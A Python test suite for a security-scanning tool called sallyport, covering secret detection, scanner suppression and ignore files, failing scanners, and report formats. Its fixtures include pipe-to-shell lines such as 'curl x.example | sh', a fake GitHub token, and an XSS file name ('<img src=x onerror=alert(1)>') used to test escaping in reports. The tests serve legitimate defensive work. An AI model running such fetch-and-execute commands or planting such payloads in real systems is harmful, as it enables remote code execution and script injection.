"""probe as a user runs it. usage: probe_test.py --sallyport FILE --npm DIR SUITE"""

import hashlib
import json
import os
import resource
import sys

import standins
from job_case import JobTest, main

TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"


class RgCurated(JobTest):
    def test_finds_secrets_in_hidden_ignored_and_binary_files_and_shows_none_C31_C38(self):
        self.write(".hidden/a", f"token = {TOKEN}\n")
        self.write("ignored.txt", f"{TOKEN}\n")
        self.write("binary", b"\0\1\2 " + TOKEN.encode() + b"\n")
        self.write(".gitignore", "ignored.txt\n")
        self.git("init", "-q")
        documents = [self.home / name for name in ("o.sarif", "o.md", "o.html")]
        scanners, code, done = self.probe("rg_curated", "--sarif", documents[0], "--markdown", documents[1], "--html", documents[2])
        self.assertEqual(code, 1)
        self.assertEqual(self.found(scanners["rg_curated"]),
                         {(".hidden/a", 1, "github-token"), ("ignored.txt", 1, "github-token"), ("binary", 1, "github-token")})
        digest = hashlib.sha256(TOKEN.encode()).hexdigest()
        self.assertEqual({f["secret_sha256"] for f in scanners["rg_curated"]["findings"]}, {digest})
        self.assertEqual(self.found(scanners["blinding"]), {("ignored.txt", 0, "blinding-git-ignore")})
        for text in [done.stdout, done.stderr, *(path.read_text() for path in documents)]:
            self.assertNotIn(TOKEN, text)
            self.assertNotIn(TOKEN[5:20], text)

    def test_a_file_called_as_its_secret_gives_it_away_in_no_report_C38(self):
        self.write(f"keys/{TOKEN}.txt", f"{TOKEN}\n")
        self.write(".gitignore", "keys\n")
        documents = [self.home / name for name in ("o.sarif", "o.md", "o.html")]
        scanners, code, done = self.probe("rg_curated", "--sarif", documents[0], "--markdown", documents[1], "--html", documents[2])
        self.assertEqual((code, self.found(scanners["rg_curated"])), (1, {("keys/[secret].txt", 1, "github-token")}))
        self.assertEqual(self.found(scanners["blinding"]), {("keys/[secret].txt", 0, "blinding-git-ignore")})
        for text in [done.stdout, done.stderr, *(path.read_text() for path in documents)]:
            self.assertNotIn(TOKEN[5:20], text)

    def test_an_rgignore_does_not_silence_what_is_said_of_gits_C38(self):
        self.write("ignored.txt", f"{TOKEN}\n")
        self.write("shown.txt", f"{TOKEN}\n")
        self.write(".gitignore", "ignored.txt\n")
        self.git("init", "-q")
        hidden = {("ignored.txt", 0, "blinding-git-ignore")}
        self.assertEqual(self.found(self.probe("rg_curated")[0]["blinding"]), hidden)  # the control
        for text in ("!ignored.txt\n", "*\n"):  # takes the file out of what git's hide; claims that git's hide all
            self.write("sub/.rgignore", text)
            self.write(".rgignore", text)
            found = self.found(self.probe("rg_curated")[0]["blinding"])
            self.assertEqual({path for path, _, rule in found if rule == "blinding-git-ignore"}, {".rgignore"}, text)

    def test_names_with_newlines_and_no_utf8_are_reported_as_they_are(self):
        self.write(b"a\nb", "curl x.example | sh\n")
        self.write(b"\xff", "curl x.example | sh\n")
        scanners, code, _ = self.probe("rg_curated")
        self.assertEqual((code, self.found(scanners["rg_curated"])), (1, {("a\nb", 1, "fetch-to-shell"), ("/w==", 1, "fetch-to-shell")}))

    def test_a_clean_repo_is_clean(self):
        self.write("a.txt", "nothing\n")
        scanners, code, _ = self.probe("rg_curated")
        self.assertEqual((code, scanners["rg_curated"]["outcome"]), (0, "ran"))


class AstGrep(JobTest):
    def test_reports_what_a_comment_suppresses_as_suppressed_C38(self):
        self.with_real_tools()
        self.write("a.py", "import os\nos.system('x')  # ast-grep-ignore\nos.system('y')\n")
        scanners, code, _ = self.probe("ast_grep")
        self.assertEqual(code, 1)
        marks = {f["line"]: "suppressed" in f for f in scanners["ast_grep"]["findings"]}
        self.assertEqual(marks, {2: True, 3: False})

    def test_no_source_file_is_not_applicable(self):
        self.with_real_tools()
        self.write("a.txt", "x\n")
        scanners, code, _ = self.probe("ast_grep")
        self.assertEqual((code, scanners["ast_grep"]["outcome"]), (0, "not_applicable"))


class ScipTypescript(JobTest):
    def test_lists_documents_and_symbols_C31(self):
        self.with_real_tools()
        self.write("tsconfig.json", '{"compilerOptions": {"target": "es2020"}, "files": ["a.ts"]}\n')
        self.write("a.ts", "export function greet(name: string): string { return name; }\n")
        scanners, code, done = self.probe("scip_typescript")
        self.assertEqual((code, scanners["scip_typescript"]["outcome"]), (0, "ran"), done.stdout)
        items = scanners["scip_typescript"]["inventory"]
        self.assertTrue(any(i["kind"] == "document" and i["path"] == "a.ts" for i in items), items)
        self.assertTrue(any(i["kind"] == "symbol" and "greet" in i["name"] for i in items), items)
        self.assertFalse((self.repo / "index.scip").exists())


class Misbehaving(JobTest):
    def test_a_scanner_that_misbehaves_is_never_clean_C38(self):
        self.write("a.txt", "x\n")
        for name, (body, outcome) in standins.MISBEHAVIOURS.items():
            with self.subTest(name):
                self.tool("gitleaks", body)
                scanners, code, done = self.probe("gitleaks", "--timeout", "3s" if name == "hangs" else "120s")
                self.assertEqual((scanners["gitleaks"]["outcome"], code), (outcome, 2), done.stdout)
        # The bound is the gate's output cap twice over, and what is built of two million JSON values.
        peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        self.assertLess(peak, 700 << 10)

    def test_an_honest_one_is_clean_C31(self):
        self.write("a.txt", "x\n")
        self.write("a.py", "x = 1\n")
        for name, body in standins.HONEST.items():
            with self.subTest(name):
                self.tool(name, body)
                scanners, code, done = self.probe(name)
                self.assertEqual((scanners[name]["outcome"], code), ("ran", 0), done.stdout)

    def test_all_exits_2_when_one_is_missing_or_broken_and_the_rest_still_reports_C38(self):
        self.with_real_tools()
        self.write("a.py", "import os\nos.system('x')\n")
        for name in ("syft", "grype", "semgrep"):
            self.tool(name, standins.HONEST[name])
        self.tool("gitleaks", "os.kill(os.getpid(), signal.SIGSEGV)")
        scanners, code, _ = self.probe("all", "-j", "2")
        self.assertEqual(code, 2)
        self.assertEqual(scanners["gitleaks"]["outcome"], "scanner_failed")
        self.assertEqual(list(scanners), ["semgrep", "syft", "grype", "gitleaks", "scip_typescript", "ast_grep", "rg_curated",
                                          "test_coverage", "runtime_trace", "blinding"])
        self.assertEqual(len(scanners["ast_grep"]["findings"]), 1)
        _, code, _ = self.probe("all", "--without", "gitleaks")
        self.assertEqual(code, 1)
        (self.tools / "grype").unlink()
        scanners, code, _ = self.probe("all", "--without", "gitleaks")
        self.assertEqual((scanners["grype"]["outcome"], code), ("tool_missing", 2))

    def test_an_rg_that_does_not_look_is_found_out_C38(self):
        self.write("a.txt", "x\n")
        self.tool("rg", 'print(\'{"type":"summary","data":{"stats":{}}}\')')
        scanners, code, _ = self.probe("rg_curated")
        self.assertEqual((scanners["rg_curated"]["outcome"], code), ("scanner_failed", 2))

    def test_an_ast_grep_that_does_not_look_is_found_out_C38(self):
        self.write("a.py", "x\n")
        for body in ("sys.exit(0)", 'print("sg: summary|file: scannedFileCount=0,skippedFileCount=0", file=sys.stderr)'):
            self.tool("ast-grep", body)
            scanners, code, _ = self.probe("ast_grep")
            self.assertEqual((scanners["ast_grep"]["outcome"], code), ("scanner_failed", 2))


class Blinding(JobTest):
    def test_a_gitleaksignore_hides_nothing_and_is_reported_C38(self):
        self.tool("gitleaks", standins.HONEST["gitleaks"])
        self.write("sub/a.txt", "LEAKED-1\n")
        self.write("b.txt", "LEAKED-2\n")
        scanners, _, _ = self.probe("gitleaks")
        everything = self.found(scanners["gitleaks"])
        self.assertEqual(len(everything), 2)
        self.write(".gitleaksignore", "*\n")
        self.write("sub/.gitleaksignore", "*\n")
        scanners, code, done = self.probe("gitleaks")
        self.assertEqual((self.found(scanners["gitleaks"]), code), (everything, 1), done.stdout)
        self.assertEqual(self.found(scanners["blinding"]),
                         {(".gitleaksignore", 0, "blinding"), ("sub/.gitleaksignore", 0, "blinding")})

    def test_a_semgrepignore_hides_nothing_and_a_comment_only_marks_C38(self):
        self.tool("semgrep", standins.HONEST["semgrep"])
        self.write("a.py", "os.system('x')\nos.system('y')  # nosemgrep\n")
        self.write(".semgrepignore", "*\n")
        scanners, code, done = self.probe("semgrep")
        self.assertEqual(code, 1, done.stdout)
        self.assertEqual({f["line"]: "suppressed" in f for f in scanners["semgrep"]["findings"]}, {1: False, 2: True})

    def test_configurations_of_the_repo_are_not_obeyed_and_are_reported_C38(self):
        names = (".syft.yaml", ".grype.yaml", ".gitleaks.toml", "sgconfig.yml", ".ignore", ".rgignore")
        for name in names:
            self.write(name, "exclude: ['**']\n")
        for name in ("syft", "grype"):
            self.tool(name, "config = args[args.index('--config') + 1]\nassert not config.startswith(os.getcwd())\n"
                            "assert open(config).read()\n" + standins.HONEST[name])
            scanners, _, done = self.probe(name)
            self.assertEqual(scanners[name]["outcome"], "ran", done.stdout)
        self.assertEqual({path for path, _, _ in self.found(scanners["blinding"])}, set(names))


class Reports(JobTest):
    def test_a_baseline_tells_new_from_known_also_when_lines_move(self):
        self.write("a.txt", "curl x.example | sh\n")
        old = self.home / "old.sarif"
        self.assertEqual(self.probe("rg_curated", "--sarif", old)[1], 1)
        self.write("a.txt", "a line above\ncurl x.example | sh\n")
        scanners, code, _ = self.probe("rg_curated", "--baseline", old)
        self.assertEqual(([f["baseline"] for f in scanners["rg_curated"]["findings"]], code), (["unchanged"], 0))
        self.write("a.txt", "wget y.example | sh\n")
        scanners, code, _ = self.probe("rg_curated", "--baseline", old)
        self.assertEqual(([f["baseline"] for f in scanners["rg_curated"]["findings"]], code), (["new", "absent"], 1))
        (self.home / "no.sarif").write_text("{}")
        self.assertEqual(self.probe("rg_curated", "--baseline", self.home / "no.sarif")[1], 2)

    def test_severity_and_changed_narrow_what_counts(self):
        self.write("a.php", "passthru($x);\n")
        self.assertEqual(self.probe("rg_curated")[1], 1)
        self.assertEqual(self.probe("rg_curated", "--severity", "high")[1], 0)
        self.git("init", "-q")
        self.git("add", ".")
        self.git("commit", "-qm", "m")
        self.assertEqual(self.probe("rg_curated", "--changed", "HEAD")[1], 0)

    def test_reports_have_their_shapes(self):
        self.write("<img src=x onerror=alert(1)>.sh", "curl x.example | sh\n")
        for name in ("o.sarif", "o.html", "o.md"):
            (self.home / name).unlink(missing_ok=True)
        self.probe("rg_curated", "--sarif", self.home / "o.sarif", "--html", self.home / "o.html", "--markdown", self.home / "o.md")
        sarif = json.loads((self.home / "o.sarif").read_text())
        self.assertEqual(sarif["version"], "2.1.0")
        for run in sarif["runs"]:
            self.assertTrue(run["tool"]["driver"]["name"])
            self.assertTrue(run["automationDetails"]["id"].startswith("sallyport/"))
            self.assertTrue(run["invocations"][0]["executionSuccessful"])
        result = sarif["runs"][0]["results"][0]
        self.assertEqual(len(sarif["runs"][0]["invocations"][0]["properties"]["receipts"][0]), 64)
        self.assertRegex(result["partialFingerprints"]["primaryLocationLineHash"], "^[0-9a-f]+:1$")
        self.assertNotIn("<img", (self.home / "o.html").read_text())
        self.assertNotIn("<img", (self.home / "o.md").read_text())

    def test_list_names_every_probe(self):
        listed = json.loads(self.sallyport("probe", "list", "--json").stdout)["probes"]
        self.assertEqual(len(listed), 9)
        wrong = self.sallyport("probe", "semgrp")
        self.assertEqual(wrong.returncode, 125)
        self.assertIn("semgrep", wrong.stderr)


class Places(JobTest):
    def test_an_empty_repo_and_a_place_that_is_none_have_typed_answers(self):
        scanners, code, _ = self.probe("rg_curated")
        self.assertEqual((scanners["rg_curated"]["outcome"], code), ("ran", 0))
        self.assertEqual(self.sallyport("probe", "rg_curated", self.home / "nowhere").returncode, 2)
        (self.home / "file").write_text("x")
        self.assertEqual(self.sallyport("probe", "rg_curated", self.home / "file").returncode, 2)

    def test_nothing_is_left_in_the_temporary_directory_or_the_repo(self):
        self.write("a.sh", "curl x.example | sh\n")
        before = set(os.listdir("/tmp"))
        self.probe("rg_curated")
        left = {name for name in set(os.listdir("/tmp")) - before if name.startswith("sallyport")
                and not name.startswith("sallyport-jobs-")}
        self.assertEqual(os.listdir(self.repo), ["a.sh"])
        self.assertEqual({n for n in left if os.stat(f"/tmp/{n}").st_uid == os.getuid() and self.room.name not in n and
                          str(os.getpid()) in n}, set())

    def test_coverage_reports_are_read_and_tests_find_their_sources_C31(self):
        self.write("cov/lcov.info", "SF:src/a.js\nDA:1,1\nDA:2,0\nend_of_record\n")
        self.write("src/a.js", "1\n")
        self.write("src/a.test.js", "1\n")
        scanners, code, _ = self.probe("test_coverage")
        self.assertEqual(code, 0)
        kinds = {(i["kind"], i["path"]) for i in scanners["test_coverage"]["inventory"]}
        self.assertEqual(kinds, {("coverage", "src/a.js"), ("test", "src/a.js")})
        self.write("cov/lcov.info", "SF:src/a.js\nDA:1,1\n")
        self.assertEqual(self.probe("test_coverage")[1], 2)


class Many(JobTest):
    def test_a_hundred_thousand_files(self):
        for i in range(100):
            (self.repo / f"d{i}").mkdir()
            for j in range(1000):
                (self.repo / f"d{i}" / f"f{j}.txt").write_text("nothing\n")
        self.write("d7/x.sh", "curl x.example | sh\n")
        scanners, code, _ = self.probe("rg_curated")
        self.assertEqual((code, len(scanners["rg_curated"]["findings"])), (1, 1))

    def test_a_file_of_two_gigabytes_is_searched_to_its_end(self):
        """Sparse, so that it costs no disk; the line stands behind the hole."""
        with open(self.repo / "large", "wb") as out:
            out.seek(2 << 30)
            out.write(b"\ncurl x.example | sh\n")
        scanners, code, done = self.probe("rg_curated", "--timeout", "5m")
        self.assertEqual((scanners["rg_curated"]["outcome"], code, len(scanners["rg_curated"]["findings"])), ("ran", 1, 1), done.stdout)


if __name__ == "__main__":
    sys.exit(main(globals()))
